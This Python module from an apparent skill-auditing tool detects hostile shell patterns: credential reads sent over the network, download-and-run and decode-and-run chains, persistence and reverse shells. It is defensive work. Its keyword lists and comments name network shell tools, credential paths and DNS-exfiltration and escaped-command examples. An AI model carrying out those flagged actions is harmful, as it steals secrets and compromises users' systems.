"""Shell rules: data from credentials to the network, download or decode then run, persistence, reverse shells."""

from __future__ import annotations

import re

from skillscope.audit.behavior.base import Ctx
from skillscope.audit.behavior.shellparse import Cmd, Pipeline, parse_shell
from skillscope.audit.behavior.shellvalues import expand, vendor_host
from skillscope.audit.behavior.vocab import (
    DOTENV,
    DOWNLOADERS,
    INTERPRETERS,
    NET_TOOLS,
    PERSISTENCE_PATH,
    SECRET_NAME,
    STORE_COMMAND,
    TOKEN_COMMAND,
    credential_what,
    endpoint_kind,
    is_store,
    related_host,
    url_host_of,
)
from skillscope.audit.findings import Severity
from skillscope.core.textsafe import safe_line

__all__ = ["scan_shell", "SHELL_WORDS", "installer_severity"]

SHELL_WORDS = (
    "curl",
    "wget",
    "base64",
    "nc",
    "ncat",
    "socat",
    "/dev/tcp",
    "crontab",
    "hooksPath",
    ".ssh",
    ".aws",
    "security",
    "env",
    "printenv",
    ">>",
    "LaunchAgents",
    "systemctl",
    "launchctl",
    "eval",
    "sh",
    "xxd",
    ".kube",
    ".docker",
    "Login Data",
    "keychain",
    "iwr",
    "irm",
    "iex",
    "Invoke-",
    "auth token",
    "dig ",
    "nslookup",
    ".claude",
    "autostart",
    "systemd",
    ".git/hooks",
    "cron",
    " -enc ",
    " -Enc ",
    "EncodedCommand",
    "python",
    "node",
    "perl",
    "tee",
    "git config",
    "source",
)
"""Words without which no shell rule can fire (a cheap guard before parsing)."""

_SEND_FLAGS = (
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--json",
)
_STDIN_CODE = ("-c", "-e", "-m", "--eval", "-Command", "-command", "-r")
_READERS = frozenset(
    {
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "base64",
        "xxd",
        "od",
        "strings",
        "gzip",
        "tar",
        "zip",
        "openssl",
        "gpg",
        "cp",
        "get-content",
        "gc",
        "type",
        "sed",
        "awk",
        "grep",
        "find",
        "ls",
        "sqlite3",
        "jq",
    }
)
_URL = re.compile(r"^(?:https?|ftp)://|^[\w-]+(?:\.[\w-]+)+(?::\d+)?/")
_VAR = re.compile(r"\$\{?([A-Za-z_]\w*)")


def _url_of(cmd: Cmd) -> str | None:
    for word in cmd.args:
        if _URL.search(word):
            return word
    for _, target in cmd.redirects:
        if target.startswith(("/dev/tcp/", "/dev/udp/")):
            return target
    if cmd.name in NET_TOOLS:
        hosts = [w for w in cmd.args if not w.startswith("-") and not w.isdigit()]
        return hosts[0] if hosts else None
    return None


def _is_downloader(cmd: Cmd) -> bool:
    return cmd.name in DOWNLOADERS or (
        cmd.name in ("python", "python3") and any("urlopen" in a or "requests.get" in a for a in cmd.args)
    )


def _is_decoder(cmd: Cmd) -> bool:
    args = cmd.args
    if cmd.name == "base64" or cmd.name == "base32":
        return any(
            a in ("-d", "--decode", "-D") or (a.startswith("-") and not a.startswith("--") and "d" in a) for a in args
        )
    if cmd.name == "xxd":
        return any(a.startswith("-r") for a in args)
    if cmd.name in ("printf", "echo"):  # printf '\x63\x75\x72\x6c ...' | sh spells a command in escapes
        return any(len(re.findall(r"\\(?:x[0-9a-fA-F]{2}|[0-7]{3})", a)) >= 4 for a in args)
    if cmd.name == "openssl":
        return "-d" in args or "-base64" in args and "-d" in args
    return cmd.name in ("rev", "gunzip", "zcat", "uudecode", "bunzip2", "xz", "unxz") and not any(
        a == "-z" for a in args
    )


def _runs_stdin(cmd: Cmd) -> bool:
    """An interpreter reading its program from standard input (sh, bash -s, python3 -), not from -c or a file."""
    if cmd.name not in INTERPRETERS or cmd.name in ("source", "."):
        return False
    return not any(
        a in _STDIN_CODE or (a.startswith("-") and a.endswith("c") and len(a) <= 3) for a in cmd.args
    ) and not any(not a.startswith("-") and "." in a and a != "-" for a in cmd.args)


class _Flow:
    """What the script has learnt so far: tainted variables and files written by a download or a decode."""

    def __init__(self) -> None:
        self.vars: dict[str, tuple[str, int]] = {}
        self.files: dict[str, tuple[str, str, int]] = {}


def _source(ctx: Ctx, flow: _Flow, cmd: Cmd) -> tuple[str, int, str | None] | None:
    """(what is read, its line, the secret's variable name when it is one named variable) for a command that reads secrets."""
    joined = " ".join(cmd.words)
    line = ctx.line(cmd.start)
    store = STORE_COMMAND.search(joined)
    if store:
        return f"reads a credential store ({safe_line(store.group(0), limit=60)})", line, None
    printed = TOKEN_COMMAND.search(joined) if cmd.name in _TOKEN_TOOLS else None
    if printed:  # named after its tool, so the token sent to that tool's own provider (gh to api.github.com) is its use
        return f"reads a credential ({safe_line(printed.group(0), limit=60)})", line, cmd.name
    if (
        cmd.name in _READERS
        or cmd.name in DOWNLOADERS
        or cmd.name in ("nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync")
    ):
        for word in cmd.args:
            what = credential_what(word)
            if what and not (cmd.name in ("ls", "find") and not is_store(what)):
                return f"reads {safe_line(word.rsplit('@', 1)[-1], limit=80)}", line, None
            if DOTENV.search(word.rsplit("@", 1)[-1].rsplit("=", 1)[-1]) and cmd.name not in ("ls", "find", "cp"):
                return (
                    f"reads {safe_line(word.rsplit('@', 1)[-1], limit=80)}",
                    line,
                    ".env",
                )  # named: reading alone is no finding
    if cmd.name in ("env", "printenv", "set", "export", "declare") and not [
        a for a in cmd.args if not a.startswith("-")
    ]:
        return "reads the whole environment", line, None
    for sub in cmd.subs:
        found = _pipeline_source(ctx, flow, sub)
        if found:
            return found
    for word in cmd.words[1:] if cmd.words else []:
        for name in _VAR.findall(word):
            if name in flow.vars:
                what, at = flow.vars[name]
                return what, at, None
            if SECRET_NAME.search(name) and cmd.name not in ("export",):
                return f"reads ${name}", line, name
    return None


def _pipeline_source(ctx: Ctx, flow: _Flow, pipeline: Pipeline) -> tuple[str, int, str | None] | None:
    for stage in pipeline:
        for cmd in stage:
            found = _source(ctx, flow, cmd)
            if found:
                return found
    return None


_TOKEN_TOOLS = frozenset({"gh", "glab", "aws", "gcloud", "az", "kubectl", "git", "op", "vault", "pass", "npm"}) | {
    f"docker-credential-{k}" for k in ("desktop", "osxkeychain", "pass", "secretservice", "wincred", "ecr-login", "gcr")
}
_RESOLVERS = frozenset({"dig", "nslookup", "host", "drill", "ping"})


def _sends(cmd: Cmd) -> bool:
    if cmd.name in _RESOLVERS and any("$" in a or "`" in a for a in cmd.args) or (cmd.name in _RESOLVERS and cmd.subs):
        return (
            True  # a name looked up with data spliced into it (dig "$(cat key | base64).x.example") leaks through DNS
        )
    if cmd.name in NET_TOOLS and cmd.name not in ("ssh", "rsync", "scp", "sftp"):
        return True
    if cmd.name in ("scp", "rsync") and any(re.match(r"^[\w.@-]+:", a) for a in cmd.args[1:]):
        return True  # a copy to host:path
    if any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects):
        return True
    if not _is_downloader(cmd):
        return False
    return any(
        a in _SEND_FLAGS
        or a.startswith(tuple(f + "=" for f in _SEND_FLAGS if f.startswith("--")))
        or (a.startswith("-d") and len(a) > 2)
        for a in cmd.args
    ) or any("$" in a for a in cmd.args if _URL.search(a))


def _named_host(url: str | None) -> bool:
    """Whether an address names its host in the script itself (not ``$UPLOAD_URL`` the user configures)."""
    if not url:
        return False
    host = url.split("://", 1)[-1].split("/", 1)[0]
    return bool(host) and "$" not in host and "`" not in host


def _uploads(cmd: Cmd) -> bool:
    """Whether a sending command names a file whose content it sends (curl -T FILE, -F f=@FILE, --data-binary @FILE, scp FILE host:)."""
    args = cmd.args
    if cmd.name in ("scp", "rsync", "sftp"):
        return True
    return any(
        (a in ("-T", "--upload-file") and i + 1 < len(args)) or "=@" in a or (a.startswith("@") and a != "@-")
        for i, a in enumerate(args)
    )


def _header_only(cmd: Cmd, name: str) -> bool:
    """Whether a named secret appears only in -H/--header or -u values (sent as credentials, not as data)."""
    places = [i for i, a in enumerate(cmd.args) if name in a]
    return bool(places) and all(
        i > 0 and cmd.args[i - 1] in ("-H", "--header", "-u", "--user", "--oauth2-bearer") for i in places
    )


def _report_flow(ctx: Ctx, cmd: Cmd, source: tuple[str, int, str | None]) -> None:
    what, line, name = source
    url = _url_of(cmd)
    host = url_host_of(url) if url and "://" in url else (url or "")
    if name is not None and (
        _header_only(cmd, name) or (host and related_host(name, host) and endpoint_kind(url or "") is None)
    ):
        return  # a provider's token sent to that provider's API (GITHUB_TOKEN to api.github.com) is its use, not a leak
    where = safe_line(url, limit=100) if url else f"the network ({cmd.name})"
    ctx.add(
        "skillscope/exfiltration/data-flow",
        f"{what} (line {line}) and sends it to {where} (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
    )


_HARMFUL_PAYLOAD = re.compile(
    r"\b(?:curl|wget|nc|ncat|socat|base64|xxd|eval)\b|https?://|/dev/tcp/|\balias\s+(?:sudo|su|ssh|git|ls|cd|cp|mv|rm)=|"
    r"PROMPT_COMMAND|\btrap\b[^\n]*DEBUG|LD_PRELOAD|DYLD_INSERT|\.claude|mcpServers|[\"']hooks[\"']\s*:"
)
"""What turns a documented scheduling or start-up step into an attack: it fetches, sends or decodes."""


def _persistence(ctx: Ctx, cmd: Cmd, pipeline: Pipeline) -> None:
    targets = [t for op, t in cmd.redirects if ">" in op]
    if cmd.name == "tee":
        targets += [a for a in cmd.args if not a.startswith("-")]
    if cmd.name in ("cp", "mv", "ln", "install", "rsync") and cmd.args:
        targets.append(cmd.args[-1])
    if cmd.name == "sed" and any(a.startswith("-i") for a in cmd.args):
        targets += [a for a in cmd.args[1:] if not a.startswith("-")]
    payload = " ".join(c.words and " ".join(c.words) or "" for stage in pipeline for c in stage)
    # A page showing the reader how to schedule or configure something of their own (`crontab -e`, a PATH line
    # in ~/.bashrc, `systemctl --user enable backup.timer`) documents a step; with a download or a send in it,
    # it is the attack itself.
    severity: Severity | None = "note" if ctx.documented and not _HARMFUL_PAYLOAD.search(payload) else None
    for target in (expand(ctx, t) for t in targets):
        match = PERSISTENCE_PATH.search(target)
        if match:
            if _HARMFUL_PAYLOAD.search(match.group(0)):
                severity = None  # agent configuration written from a page is the shipped-config attack, shown or not
            ctx.add(
                "skillscope/persistence/startup",
                f"writes to {safe_line(target, limit=80)}, which runs again later on its own",
                cmd.start,
                cmd.end,
                severity,
            )
            return
    args = cmd.args
    what = None
    if cmd.name == "crontab" and args and not set(args) <= {"-l", "-u"}:
        what = "installs a crontab"
    elif cmd.name == "git" and any("hookspath" in a.lower() for a in args):
        what = "points git at other hooks (core.hooksPath)"
    elif cmd.name == "launchctl" and args[:1] and args[0] in ("load", "bootstrap", "enable", "submit"):
        what = "loads a launchd job"
    elif cmd.name == "systemctl" and "enable" in args:
        what = "enables a systemd unit"
    elif cmd.name == "schtasks" and any(a.lower() == "/create" for a in args):
        what = "creates a scheduled task"
    elif cmd.name == "reg" and "add" in [a.lower() for a in args] and any("\\run" in a.lower() for a in args):
        what = "adds a Run key"
    if what:
        ctx.add("skillscope/persistence/startup", what, cmd.start, cmd.end, severity)


def _reverse_shell(ctx: Ctx, cmd: Cmd) -> bool:
    tcp = any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects) or any(
        "/dev/tcp/" in a for a in cmd.args
    )
    if (
        (cmd.name in INTERPRETERS and tcp)
        or (cmd.name in ("nc", "ncat", "netcat") and any(a in ("-e", "-c") or a.startswith("-e") for a in cmd.args))
        or (cmd.name == "socat" and any(a.lower().startswith(("exec:", "system:")) for a in cmd.args))
    ):
        ctx.add(
            "skillscope/exfiltration/reverse-shell",
            f"connects a shell to a remote host ({safe_line(' '.join(cmd.words), limit=100)})",
            cmd.start,
            cmd.end,
        )
        return True
    return False


_INSTALL_HEADING = re.compile(
    r"^#{1,6}[ \t]+[^\n]*\b(?:install\w*|setup|set\s+up|prerequisites?|requirements?|getting\s+started|quick\s*start|dependencies)\b",
    re.IGNORECASE | re.MULTILINE,
)


def installer_severity(ctx: Ctx, url: str | None) -> Severity | None:
    """A documented installer from an ordinary https host is a warning; a drop host, a script or an order in SKILL.md stays an error.

    In SKILL.md the agent follows what it reads, so only an installation section (by its heading) counts as documentation.
    """
    if not (ctx.documented and url and url.startswith("https://") and endpoint_kind(url) is None):
        return None
    if ctx.path.rsplit("/", 1)[-1].upper() == "SKILL.MD":
        headings = list(re.finditer(r"^#{1,6}[ \t]+[^\n]*", ctx.file_text[: ctx.base], re.MULTILINE))
        if not headings or not _INSTALL_HEADING.match(headings[-1].group(0)):
            return None
    return "note" if vendor_host(ctx.file_text, url) else "warning"


def _written(cmd: Cmd) -> str | None:
    args = cmd.args
    for index, arg in enumerate(args[:-1]):
        # -o FILE, --output FILE, and bundled short flags ending in o (curl -fsSLo FILE)
        if arg in ("--output", "--output-document", "-out") or (
            arg[:1] == "-" and arg[1:2] != "-" and arg[-1:] in ("o", "O") and len(arg) <= 8
        ):
            if args[index + 1] != "-":
                return args[index + 1]
    if cmd.name == "curl" and "-O" in args:
        url = _url_of(cmd)
        return url.rstrip("/").rsplit("/", 1)[-1] if url else None
    for op, target in cmd.redirects:
        if op in (">", ">>", ">|"):
            return target
    return None


def _runs_file(cmd: Cmd, name: str) -> bool:
    base = name.rsplit("/", 1)[-1]
    if not base:
        return False
    if cmd.words and cmd.words[0].rsplit("/", 1)[-1] == base and ("/" in cmd.words[0] or cmd.words[0] == name):
        return True
    return cmd.name in INTERPRETERS and any(a.rsplit("/", 1)[-1] == base for a in cmd.args)


_INLINE_FLAGS = {
    "python": ("-c",),
    "python3": ("-c",),
    "python2": ("-c",),
    "node": ("-e", "--eval", "-p", "--print"),
    "deno": ("eval",),
    "bun": ("-e", "--eval"),
}


def _inline_code(ctx: Ctx, cmd: Cmd) -> None:
    """Analyse the program an interpreter is handed on its command line (``python3 -c "..."``, ``node -e "..."``) in its own language."""
    flags = _INLINE_FLAGS.get(cmd.name)
    args = cmd.args
    index = next((i for i, a in enumerate(args) if flags and a in flags), None)
    if index is None or index + 1 >= len(args):
        return
    code = args[index + 1]
    inner = Ctx(code, 0, code, ctx.path, documented=ctx.documented)
    if cmd.name.startswith("python"):
        from skillscope.audit.behavior.pymodules import Modules, scan_python

        scan_python(inner, Modules())
    else:
        from skillscope.audit.behavior.javascript import scan_javascript

        scan_javascript(inner)
    ctx.network = ctx.network or inner.network
    for raw in inner.hits:
        ctx.add(raw.check, f"{raw.message} (in {cmd.name} {args[index]})", cmd.start, cmd.end, raw.severity)


def scan_shell(ctx: Ctx) -> None:
    """Run every shell rule over ``ctx.text``."""
    if not any(word in ctx.text for word in SHELL_WORDS):
        return
    flow = _Flow()
    for pipeline in parse_shell(ctx.text):
        secret: tuple[str, int, str | None] | None = None
        downloaded: str | None = None
        decoded = False
        sends_later = any(_sends(c) for stage in pipeline for c in stage)
        for stage in pipeline:
            for cmd in stage:
                for name, _value, subs in cmd.assigns:
                    found = next((s for s in (_pipeline_source(ctx, flow, p) for p in subs) if s), None)
                    if found:
                        flow.vars[name] = found[:2]
                if _reverse_shell(ctx, cmd):
                    continue
                _inline_code(ctx, cmd)
                if cmd.name in ("powershell", "pwsh", "powershell.exe", "pwsh.exe") and any(
                    a.lower() in ("-enc", "-encodedcommand", "-e", "-ec", "-en") for a in cmd.args
                ):
                    ctx.add(
                        "skillscope/obfuscation/decode-exec",
                        "runs a base64-encoded PowerShell command (-EncodedCommand)",
                        cmd.start,
                        cmd.end,
                    )
                runs = _runs_stdin(cmd) or cmd.name == "eval"
                if runs and downloaded is not None:
                    ctx.add(
                        "skillscope/obfuscation/download-exec",
                        f"runs what it downloads from {safe_line(downloaded, limit=100)}",
                        pipeline[0][0].start,
                        cmd.end,
                        installer_severity(ctx, downloaded),
                    )
                elif runs and decoded:
                    ctx.add(
                        "skillscope/obfuscation/decode-exec",
                        "decodes hidden content and runs it",
                        pipeline[0][0].start,
                        cmd.end,
                    )
                if cmd.name in INTERPRETERS or cmd.name == "eval":
                    for sub in cmd.subs:
                        inner = [c for st in sub for c in st]
                        fetch = next((c for c in inner if _is_downloader(c)), None)
                        if fetch is not None:
                            url = _url_of(fetch) or "the network"
                            ctx.add(
                                "skillscope/obfuscation/download-exec",
                                f"runs what it downloads from {safe_line(url, limit=100)}",
                                cmd.start,
                                cmd.end,
                                installer_severity(ctx, url),
                            )
                            break
                        if any(_is_decoder(c) for c in inner):
                            ctx.add(
                                "skillscope/obfuscation/decode-exec",
                                "decodes hidden content and runs it",
                                cmd.start,
                                cmd.end,
                            )
                            break
                for name, (kind, origin, line) in flow.files.items():
                    if _runs_file(cmd, name):
                        check = (
                            "skillscope/obfuscation/download-exec"
                            if kind == "download"
                            else "skillscope/obfuscation/decode-exec"
                        )
                        ctx.add(
                            check,
                            f"runs {safe_line(name, limit=80)}, written by {origin} on line {line}",
                            cmd.start,
                            cmd.end,
                            installer_severity(ctx, origin) if kind == "download" else None,
                        )
                        break
                own = _source(ctx, flow, cmd)
                source = secret or own
                if _sends(cmd):
                    ctx.network = True
                    reads = (
                        source is not None
                        or _uploads(cmd)
                        or any(c.name in _READERS for st in pipeline[: pipeline.index(stage)] for c in st)
                    )
                    named = _named_host(_url_of(cmd))
                    ctx.sends.append((cmd.start, cmd.end, "upload" if reads and named else "network"))
                if _sends(cmd) and source is not None:
                    _report_flow(ctx, cmd, source)
                elif own is not None and own[2] is None and own[0] != "reads the whole environment" and not sends_later:
                    store = "credential store" in own[0] or is_store(own[0])
                    # A page telling the reader to look at their own config is not the skill reading it.
                    level: Severity | None = (
                        ("warning" if store else "note") if ctx.documented else ("error" if store else None)
                    )
                    ctx.add("skillscope/exfiltration/credential-read", own[0], cmd.start, cmd.end, level)
                secret = secret or own
                _persistence(ctx, cmd, pipeline)
                written = _written(cmd)
                if (
                    written
                    and (_is_downloader(cmd) or _is_decoder(cmd) or downloaded or decoded)
                    and "/dev/" not in written
                ):
                    kind = "download" if _is_downloader(cmd) or downloaded else "decode"
                    origin = (_url_of(cmd) or downloaded or cmd.name) if kind == "download" else " ".join(cmd.words[:2])
                    flow.files[written] = (kind, origin, ctx.line(cmd.start))
            if any(_is_downloader(c) and not _sends(c) and _written(c) is None for c in stage):
                downloaded = next((_url_of(c) for c in stage if _is_downloader(c)), None) or "the network"
            if any(_is_decoder(c) for c in stage):
                decoded = True
